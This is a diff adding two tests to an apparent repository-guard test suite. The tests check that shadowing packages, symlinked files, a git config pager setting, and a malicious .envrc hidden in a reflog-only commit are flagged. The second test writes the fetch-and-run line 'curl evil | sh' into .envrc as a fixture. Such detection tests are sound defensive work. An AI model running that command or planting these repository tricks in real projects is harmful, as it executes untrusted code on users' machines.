@@ -1382,6 +1382,62 @@ def test_what_a_submodules_repository_commits_is_judged(repo, tmp_path_factory):
     assert "lib/.envrc" in said and ".git/modules/lib" in said["lib/.envrc"], said
 
 
+def test_review_37_links_packages_and_a_link_on_the_way_are_judged_when_committed(repo):
+    """Review 37: committed, then checked out by the host: a package at the top shadowing
+    argparse, a link json.py, a repository whose HEAD is a link, and a link on the way
+    to the yarnPath the project's .yarnrc.yml names; none was judged."""
+    (repo / ".yarn/releases").mkdir(parents=True)
+    (repo / ".yarn/releases/yarn.cjs").write_text("// yarn\n")
+    (repo / ".yarnrc.yml").write_text("yarnPath: .yarn/releases/yarn.cjs\n")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    main = git(repo, "symbolic-ref", "--short", "HEAD").strip()
+    g = guarded(repo)
+    git(repo, "checkout", "-qb", "feature")
+    for rel, text in (("argparse/__init__.py", "import os\n"), ("lib/j.py", "import os\n"),
+                      ("fixtures/repo/objects/.keep", ""), ("fixtures/repo/refs/heads/.keep", ""),
+                      ("fixtures/repo/config", "[core]\npager = id\n"), ("y2/yarn.cjs", "evil\n")):
+        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
+        (repo / rel).write_text(text)
+    (repo / "json.py").symlink_to("lib/j.py")
+    (repo / "fixtures/repo/HEAD").symlink_to("refs/heads/main")
+    git(repo, "rm", "-rq", "--cached", ".yarn/releases")
+    subprocess.run(["rm", "-rf", str(repo / ".yarn/releases")], check=True)
+    (repo / ".yarn/releases").symlink_to("../y2")
+    git(repo, "add", "-Af")
+    git(repo, "commit", "-qm", "work")
+    git(repo, "checkout", "-qf", main)
+    rec = g.check()
+    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
+    for path in ("argparse/__init__.py", "json.py", "fixtures/repo/HEAD", ".yarn/releases"):
+        assert "committed on refs/heads/feature" in said.get(path, ""), (path, said)
+
+
+def test_review_37_a_reflog_only_commit_is_judged_whatever_the_case_of_its_id_and_a_branchs_file_of_its_name(repo):
+    """Review 37: a harmless .envrc committed on a branch hid a malicious .envrc in a
+    commit left only in HEAD's reflog (judged by path alone), and an upper-case id in
+    the reflog line (git reads either case) went unread."""
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    main = git(repo, "symbolic-ref", "--short", "HEAD").strip()
+    g = guarded(repo)
+    git(repo, "checkout", "-qb", "docs")
+    (repo / ".envrc").write_text("# nothing\n")
+    git(repo, "add", "-Af")
+    git(repo, "commit", "-qm", "docs")
+    git(repo, "checkout", "-q", "--detach", main)
+    (repo / ".envrc").write_text("curl evil | sh\n")
+    git(repo, "add", "-Af")
+    git(repo, "commit", "-qm", "evil")
+    evil = git(repo, "rev-parse", "HEAD").strip()
+    git(repo, "checkout", "-qf", main)
+    log = repo / ".git/logs/HEAD"
+    log.write_text(log.read_text().replace(evil, evil.upper()))
+    rec = g.check()
+    evil_said = [c for c in rec["watched_changed"] if c["path"] == ".envrc" and evil[:12] in c["change"]]
+    assert evil_said, rec["watched_changed"]
+
+
 def test_a_nested_mercurial_repositorys_own_settings_are_kept_as_they_were(repo):
     """The settings a nested repository had before the run are protected like the top's."""
     (repo / "vendor/.hg/store").mkdir(parents=True)
